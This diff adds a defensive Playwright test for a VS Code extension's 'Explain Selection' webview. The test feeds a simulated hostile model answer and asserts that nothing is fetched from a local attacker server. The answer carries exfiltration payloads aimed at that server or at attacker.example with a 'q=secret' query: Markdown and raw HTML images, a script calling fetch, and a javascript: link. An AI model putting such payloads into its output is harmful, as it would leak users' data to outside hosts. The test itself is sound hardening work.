@@ -1,6 +1,8 @@
 // Explain Selection driven like a person: chromium + playwright-core against code-server, the
 // extension loaded from source, a fake OpenAI-compatible server on 127.0.0.1 in this process.
 import * as assert from 'node:assert/strict';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import * as path from 'node:path';
 import type { Page } from 'playwright-core';
 import { FakeLlmServer } from '../../support/fakeLlmServer';
@@ -124,5 +126,65 @@ describe('Explain Selection in the real editor (UI)', function () {
     await item.waitFor({ timeout: 10_000 });
     assert.ok(await item.locator('.codicon-error').count() > 0, 'it is an error notification');
     await p.keyboard.press('Escape');
+  });
+  it('renders a hostile answer without fetching anything: images, raw HTML and javascript: links stay text', async function () {
+    // The "attacker": a local HTTP server that records every request. Its port also appears under
+    // https://, which the old CSP (img-src https:) would have let the webview request.
+    const hits: string[] = [];
+    const attacker = http.createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.writeHead(200, { 'content-type': 'image/png' }).end();
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    const origin = `127.0.0.1:${(attacker.address() as AddressInfo).port}`;
+    const browserRequests: string[] = [];
+    const record = (request: { url(): string }): void => {
+      if (request.url().includes(origin) || request.url().includes('q=secret')) {
+        browserRequests.push(request.url());
+      }
+    };
+    const p = page();
+    p.context().on('request', record);
+    try {
+      await openFile(p, 'src/pricing.ts');
+      await selectApplyDiscount(p);
+      session.llm().enqueue({
+        kind: 'text',
+        text: [
+          '## Hostile answer',
+          '',
+          `![x](https://${origin}/md.png?q=secret) ![y](http://${origin}/md-http.png?q=secret)`,
+          '',
+          `<img src="https://${origin}/raw.png?q=secret"><img src="http://${origin}/raw-http.png?q=secret">`,
+          '',
+          `<script>fetch("http://${origin}/script?q=secret")</script>`,
+          '',
+          `[click me](javascript:fetch('http://${origin}/js?q=secret')) and [docs](https://attacker.example/docs?q=secret)`,
+        ].join('\n'),
+      });
+      await runCommand(p, 'Routecraft: Explain Selection (Skip Cache)');
+      const view = webviewContent(p);
+      await view.locator('#content h2', { hasText: 'Hostile answer' }).waitFor({ timeout: 30_000 });
+      await view.locator('#footer', { hasText: 'fake-model' }).waitFor({ timeout: 15_000 });
+      assert.equal(await view.locator('#content img, #content script, #content iframe').count(), 0, 'no loading element');
+      assert.equal(await view.locator('#content [src], #content [href]').count(), 0, 'no src or href attribute');
+      assert.equal(await view.locator('#content .image-as-text').count(), 2, 'both Markdown images shown as text');
+      assert.equal(await view.locator('#content a[data-href]').count(), 1, 'only the https link is a link');
+      await view.locator('#content', { hasText: 'javascript:fetch' }).waitFor({ timeout: 5_000 });
+
+      // The one link opens through VS Code's opener, which asks first (for a site that is not
+      // localhost or a trusted domain); declining fetches nothing.
+      await view.locator('#content a[data-href]').click();
+      const dialog = p.locator('.monaco-dialog-box', { hasText: 'attacker.example' });
+      await dialog.waitFor({ timeout: 15_000 });
+      await dialog.getByRole('button', { name: 'Cancel' }).click();
+      await dialog.waitFor({ state: 'detached', timeout: 10_000 });
+      await new Promise((r) => setTimeout(r, 1_500));
+      assert.deepEqual(hits, [], 'the attacker server saw no request');
+      assert.deepEqual(browserRequests, [], 'the browser issued no request to the attacker');
+    } finally {
+      p.context().off('request', record);
+      await new Promise<void>((resolve) => attacker.close(() => resolve()));
+    }
   });
 });
